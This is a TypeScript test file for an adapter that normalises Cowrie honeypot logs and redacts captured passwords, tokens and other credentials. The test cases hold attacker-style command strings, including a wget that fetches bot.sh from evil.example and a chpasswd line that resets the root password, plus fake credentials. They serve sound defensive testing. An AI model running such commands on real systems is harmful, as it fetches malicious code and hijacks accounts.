// Cowrie adapter against the real Cowrie logs in ../shared/fixtures/cowrie: every line normalises,
// types follow the mapping, and no captured password survives in payload or raw text.
import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { fromCowrie } from "./cowrie.ts";
import { REDACTED, type EventType, type NormalizedEvent } from "./types.ts";

const FIXTURES = join(import.meta.dirname, "../../../../../shared/fixtures/cowrie");
const lines = readdirSync(FIXTURES)
  .sort()
  .flatMap((f) => readFileSync(join(FIXTURES, f), "utf8").split("\n"))
  .filter((l) => l.trim() !== "");

// The mapping as issue 7 states it, written out independently of the adapter.
const expectedType = (eventid: string): EventType => {
  if (eventid === "cowrie.session.connect") return "connection";
  if (eventid === "cowrie.login.failed" || eventid === "cowrie.login.success") return "auth_attempt";
  if (eventid === "cowrie.command.input" || eventid === "cowrie.command.failed") return "command";
  if (eventid === "cowrie.direct-tcpip.request" || eventid === "cowrie.direct-tcpip.data") return "exploitation";
  if (/^cowrie\.(client\.|log\.|session\.closed)/.test(eventid)) return "session";
  return "other";
};

const normalise = (raw: string): NormalizedEvent => {
  const result = fromCowrie(JSON.parse(raw), raw);
  if (!result.ok) throw new Error(`rejected: ${result.code} ${result.path} ${result.reason}\n${raw}`);
  return result.event;
};

/** Cowrie's Splunk output: json.dumps({"host": sensor, "event": event}). */
const hecEnvelope = (line: string): string => `{"host": ${JSON.stringify((JSON.parse(line) as { sensor: string }).sensor)}, "event": ${line}}`;

describe("Cowrie fixtures", () => {
  it("has the fixture lines to test with", () => {
    expect(lines.length).toBe(1792);
  });

  it("normalises every line (bare and as a HEC envelope) with the issue's type mapping", () => {
    const counts: Record<string, number> = {};
    for (const line of lines) {
      const obj = JSON.parse(line) as Record<string, unknown>;
      for (const text of [line, hecEnvelope(line)]) {
        const ev = normalise(text);
        expect(ev.eventType).toBe(expectedType(obj.eventid as string));
        expect(ev.sourceIp).toBe(obj.src_ip);
        expect(ev.eventId).toBeNull();
        expect(ev.rawOriginal).toBe(text);
        expect(ev.occurredAt?.getTime()).toBe(Date.parse(obj.timestamp as string));
        expect(ev.payload.sensor_event).toBe(obj.eventid);
        if (obj.session !== undefined) expect(ev.payload.session).toBe(obj.session);
        if (text === line) counts[ev.eventType] = (counts[ev.eventType] ?? 0) + 1;
      }
    }
    expect(counts).toEqual({ connection: 411, auth_attempt: 552, command: 5, session: 776, exploitation: 48 });
  });

  it("moves every password to secrets; payload and raw keep none of it", () => {
    let checkedAbsent = 0;
    const withPassword = lines.filter((l) => (JSON.parse(l) as Record<string, unknown>).password !== undefined);
    expect(withPassword.length).toBe(552);
    for (const line of withPassword) {
      const obj = JSON.parse(line) as Record<string, string>;
      for (const text of [line, hecEnvelope(line)]) {
        const ev = normalise(text);
        expect(ev.secrets).toEqual({ password: obj.password });
        expect(ev.payload.username).toBe(obj.username);
        expect(ev.payload.outcome).toBe(obj.eventid === "cowrie.login.success" ? "success" : "failed");
        expect(JSON.stringify(ev.payload)).not.toContain('"password"');
        const stored = JSON.parse(ev.raw) as Record<string, unknown>;
        const event = (stored.event ?? stored) as Record<string, string>;
        expect(event.password).toBe(REDACTED);
        if (obj.password === "") expect(event.message).toBe(obj.message);
        else expect(event.message).toBe(`login attempt [${obj.username}/${REDACTED}] ${obj.eventid === "cowrie.login.success" ? "succeeded" : "failed"}`);
        expect(ev.payload.message).toBe(event.message);
        // Everything else in the raw text is byte for byte the original.
        expect(ev.raw.replace(JSON.stringify(event.message), "M").replace(`"password": "${REDACTED}"`, "P")).toBe(
          text.replace(JSON.stringify(obj.message), "M").replace(`"password": ${JSON.stringify(obj.password)}`, "P"),
        );
        // Where the password is not also a username, session id or the like, it appears nowhere.
        const elsewhere = { ...obj, password: "", message: "" };
        const pw = obj.password ?? "";
        if (pw !== "" && !JSON.stringify(elsewhere).includes(pw)) {
          expect(ev.raw).not.toContain(pw);
          expect(JSON.stringify(ev.payload)).not.toContain(pw);
          checkedAbsent++;
        }
      }
    }
    expect(checkedAbsent).toBeGreaterThan(700);
  });

  it("keeps the raw text exact when nothing was redacted", () => {
    const connect = lines.find((l) => l.includes("cowrie.session.connect"))!;
    expect(normalise(connect).raw).toBe(connect);
  });

  it("classifies commands as command_execution and keeps the command text", () => {
    for (const line of lines.filter((l) => l.includes('"cowrie.command.'))) {
      const ev = normalise(line);
      expect(ev.detectedThreat).toBe("command_execution");
      expect(ev.payload.command).toBe((JSON.parse(line) as { input: string }).input);
    }
  });

  it("maps direct-tcpip forwarding to exploitation with the forwarded destination", () => {
    const line = lines.find((l) => l.includes("cowrie.direct-tcpip.request"))!;
    const ev = normalise(line);
    expect(ev.eventType).toBe("exploitation");
    expect(ev.detectedThreat).toBeNull();
    expect(ev.payload.dst_ip).toBe("172.217.21.174");
    expect(ev.payload.dst_port).toBe(80);
  });
});

const base = { src_ip: "203.0.113.7", session: "abc123", sensor: "s1", timestamp: "2026-01-01T00:00:00.000000Z" };
const synth = (fields: Record<string, unknown>) => {
  const raw = JSON.stringify({ ...base, ...fields });
  return { raw, result: fromCowrie(JSON.parse(raw), raw) };
};

describe("Cowrie: credentials typed into commands", () => {
  const cases: [string, string[]][] = [
    ["curl -u admin:S3cretPass http://x/y", ["S3cretPass"]],
    ["curl --user 'bob:hunter22' https://h", ["hunter22"]],
    ["wget --password=Wg3tPw ftp://h/f", ["Wg3tPw"]],
    ["wget --http-password Hp4ss http://h", ["Hp4ss"]],
    ["sshpass -p Ssh9ass ssh root@10.0.0.1", ["Ssh9ass"]],
    ["mysql -uroot -pMyS3cr3t -h db", ["MyS3cr3t"]],
    ['curl -H "Authorization: Bearer eyTok3nValue" http://api', ["eyTok3nValue"]],
    ["curl -H 'X-Api-Key: k3yv4lue' http://api", ["k3yv4lue"]],
    ['echo "root:Ch4ngedPw"|chpasswd|bash', ["Ch4ngedPw"]],
    ["wget http://user:UrlPa55@evil.example/bot.sh", ["UrlPa55"]],
    ["export AWS_SECRET_ACCESS_KEY=AKsecretValue9; ls", ["AKsecretValue9"]],
    ["cd /tmp; curl -u a:One1 http://x && mysql -pTwo2", ["One1", "Two2"]],
  ];
  it.each(cases)("%s", (command, values) => {
    const { raw, result } = synth({ eventid: "cowrie.command.input", input: command, message: `CMD: ${command}` });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const ev = result.event;
    expect(Object.values(ev.secrets).sort()).toEqual([...values].sort());
    for (const v of values) {
      expect(ev.raw).not.toContain(v);
      expect(JSON.stringify(ev.payload)).not.toContain(v);
    }
    expect(ev.payload.command).toContain(REDACTED);
    expect(ev.payload.message).toBe(`CMD: ${ev.payload.command as string}`);
    expect(ev.rawOriginal).toBe(raw);
    const stored = JSON.parse(ev.raw) as Record<string, string>;
    expect(stored.input).toBe(ev.payload.command);
  });

  it("leaves ordinary commands alone", () => {
    for (const command of ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "ls -la /tmp", "ps aux", "echo hello"]) {
      const { raw, result } = synth({ eventid: "cowrie.command.input", input: command, message: `CMD: ${command}` });
      expect(result.ok && result.event.raw).toBe(raw);
      expect(result.ok && result.event.secrets).toEqual({});
    }
    const pwd = synth({ eventid: "cowrie.command.input", input: "PWD=/tmp ls" });
    expect(pwd.result.ok && pwd.result.event.secrets).toEqual({});
  });

  it("redacts credentials in forwarded data and secret environment variables", () => {
    const data = "'GET / HTTP/1.1\\r\\nAuthorization: Basic YWRtaW46cGFzcw==\\r\\n\\r\\n'";
    const fwd = synth({ eventid: "cowrie.direct-tcpip.data", dst_ip: "198.51.100.1", dst_port: 80, data, message: `discarded data ${data}` });
    expect(fwd.result.ok && fwd.result.event.raw).not.toContain("YWRtaW46cGFzcw==");
    expect(fwd.result.ok && Object.values(fwd.result.event.secrets)).toContain("YWRtaW46cGFzcw==");
    const env = synth({ eventid: "cowrie.client.var", name: "GITHUB_TOKEN", value: "ghp_abcdef123456", message: "request_env: GITHUB_TOKEN=ghp_abcdef123456" });
    expect(env.result.ok && env.result.event.raw).not.toContain("ghp_abcdef123456");
    expect(env.result.ok && JSON.stringify(env.result.event.payload)).not.toContain("ghp_abcdef123456");
  });
});

describe("Cowrie: file transfers, unknown events, rejections", () => {
  it("maps downloads and uploads to exploitation / malware_download with url, shasum, filename", () => {
    const dl = synth({ eventid: "cowrie.session.file_download", url: "http://198.51.100.9/x.sh", outfile: "var/lib/cowrie/downloads/ab12", shasum: "ab12", destfile: "x.sh" });
    expect(dl.result.ok && dl.result.event).toMatchObject({ eventType: "exploitation", detectedThreat: "malware_download", payload: { url: "http://198.51.100.9/x.sh", shasum: "ab12", filename: "x.sh" } });
    const up = synth({ eventid: "cowrie.session.file_upload", filename: "payload.bin", outfile: "o", shasum: "cd34" });
    expect(up.result.ok && up.result.event).toMatchObject({ eventType: "exploitation", detectedThreat: "malware_download", payload: { filename: "payload.bin", shasum: "cd34" } });
  });

  it("keeps unknown eventids (and events without one) as other", () => {
    const unknown = synth({ eventid: "cowrie.virustotal.scanfile", sha256: "ff" });
    expect(unknown.result.ok && unknown.result.event.eventType).toBe("other");
    expect(unknown.result.ok && unknown.result.event.payload.details).toMatchObject({ sha256: "ff" });
    const none = synth({ message: "no id" });
    expect(none.result.ok && none.result.event.eventType).toBe("other");
  });

  it("rejects a missing or invalid src_ip with path src_ip", () => {
    for (const src of [undefined, "", "999.1.1.1", "not-an-ip", 42]) {
      const raw = JSON.stringify({ eventid: "cowrie.session.connect", src_ip: src });
      const r = fromCowrie(JSON.parse(raw), raw);
      expect(r).toMatchObject({ ok: false, path: "src_ip", code: "EVENT_INVALID_SOURCE_IP" });
    }
    expect(fromCowrie([1, 2], "[1,2]")).toMatchObject({ ok: false, code: "EVENT_NOT_AN_OBJECT" });
  });

  it("uses the HEC time when the event has no timestamp", () => {
    const raw = '{"time": 1767225600.5, "event": {"eventid": "cowrie.session.connect", "src_ip": "::ffff:198.51.100.4"}}';
    const r = fromCowrie(JSON.parse(raw), raw);
    expect(r.ok && r.event.occurredAt?.toISOString()).toBe("2026-01-01T00:00:00.500Z");
    expect(r.ok && r.event.sourceIp).toBe("198.51.100.4");
  });
});

describe("Cowrie: credentials nested in objects", () => {
  const nested = {
    eventid: "cowrie.custom.http",
    request: { headers: { Authorization: "Bearer n3st3dTok", Cookie: "PHPSESSID=c00kieV4l", Host: "198.51.100.1" }, path: "/login" },
    client: { login: { user: "root", password: "N3stedPw" }, auth: { password: "Auth0bjPw", method: "password" } },
    algs: ["curve25519-sha256", "curl -u a:ArrPw9 http://x"],
  };
  const expectedSecrets = {
    "request.headers.authorization": "Bearer n3st3dTok",
    "request.headers.cookie": "PHPSESSID=c00kieV4l",
    "client.login.password": "N3stedPw",
    "client.auth": '{"password":"Auth0bjPw","method":"password"}',
    "algs.1.basic_auth": "ArrPw9",
  };

  it("moves secret-named keys at any depth to secrets by dotted path; raw keeps every other byte (bare and HEC)", () => {
    const bare = JSON.stringify({ ...base, ...nested });
    for (const text of [bare, `{"host": "s1", "event": ${bare}}`]) {
      const r = fromCowrie(JSON.parse(text), text);
      if (!r.ok) throw new Error(r.reason);
      const ev = r.event;
      expect(ev.secrets).toEqual(expectedSecrets);
      expect(ev.payload.details).toMatchObject({
        request: { headers: { Host: "198.51.100.1" }, path: "/login" },
        client: { login: { user: "root" } },
        algs: ["curve25519-sha256", `curl -u a:${REDACTED} http://x`],
      });
      expect((ev.payload.details as { client: Record<string, unknown> }).client.auth).toBeUndefined();
      for (const v of ["n3st3dTok", "c00kieV4l", "N3stedPw", "Auth0bjPw", "ArrPw9"]) {
        expect(ev.raw).not.toContain(v);
        expect(JSON.stringify(ev.payload)).not.toContain(v);
      }
      const r1 = JSON.stringify(REDACTED);
      expect(ev.raw).toBe(
        text
          .replace('"Bearer n3st3dTok"', r1)
          .replace('"PHPSESSID=c00kieV4l"', r1)
          .replace('"N3stedPw"', r1)
          .replace('{"password":"Auth0bjPw","method":"password"}', r1)
          .replace('"curl -u a:ArrPw9 http://x"', JSON.stringify(`curl -u a:${REDACTED} http://x`)),
      );
      expect(ev.rawOriginal).toBe(text);
    }
  });

  it("cleans the HEC envelope's own fields too", () => {
    const text = `{"host": "s1", "fields": {"token": "hecT0ken"}, "event": ${JSON.stringify({ ...base, eventid: "cowrie.session.connect" })}}`;
    const r = fromCowrie(JSON.parse(text), text);
    expect(r.ok && r.event.secrets).toEqual({ "hec.fields.token": "hecT0ken" });
    expect(r.ok && r.event.raw).toBe(text.replace('"hecT0ken"', JSON.stringify(REDACTED)));
    expect(r.ok && r.event.payload.details).toMatchObject({ hec: { host: "s1", fields: {} } });
  });

  it("leaves every fixture line without a credential byte-identical (the kex algorithm arrays are walked, not changed)", () => {
    let untouched = 0;
    for (const line of lines) {
      const ev = normalise(line);
      if (Object.keys(ev.secrets).length === 0) {
        expect(ev.raw).toBe(line);
        untouched++;
      }
    }
    expect(untouched).toBeGreaterThan(1200);
  });

  it("accepts 31 levels below the event, refuses 32 with the field's path, and survives hostile depth", () => {
    const nest = (levels: number): unknown => {
      let v: unknown = { password: "b0ttom" };
      for (let i = 1; i < levels; i++) v = { d: v };
      return v;
    };
    const ok31 = synth({ eventid: "cowrie.x", extra: nest(31) });
    expect(ok31.result.ok).toBe(true);
    if (ok31.result.ok) {
      expect(Object.values(ok31.result.event.secrets)).toEqual(["b0ttom"]);
      expect(ok31.result.event.raw).toBe(ok31.raw.replace('"b0ttom"', JSON.stringify(REDACTED)));
    }
    expect(synth({ eventid: "cowrie.x", extra: nest(32) }).result).toMatchObject({ ok: false, code: "EVENT_INVALID_FIELD", path: "extra" });
    const wrapped = `{"event": ${JSON.stringify({ ...base, extra: nest(40) })}}`;
    expect(fromCowrie(JSON.parse(wrapped), wrapped)).toMatchObject({ ok: false, code: "EVENT_INVALID_FIELD", path: "event.extra" });
    const huge = `{"src_ip": "203.0.113.7", "extra": ${'{"a":'.repeat(50_000)}1${"}".repeat(50_000)}}`;
    const r = fromCowrie(JSON.parse(huge), huge);
    expect(r).toMatchObject({ ok: false, code: "EVENT_INVALID_FIELD", path: "extra" });
    if (!r.ok) expect(r.reason).toBe("extra nests deeper than 32 levels");
  });
});
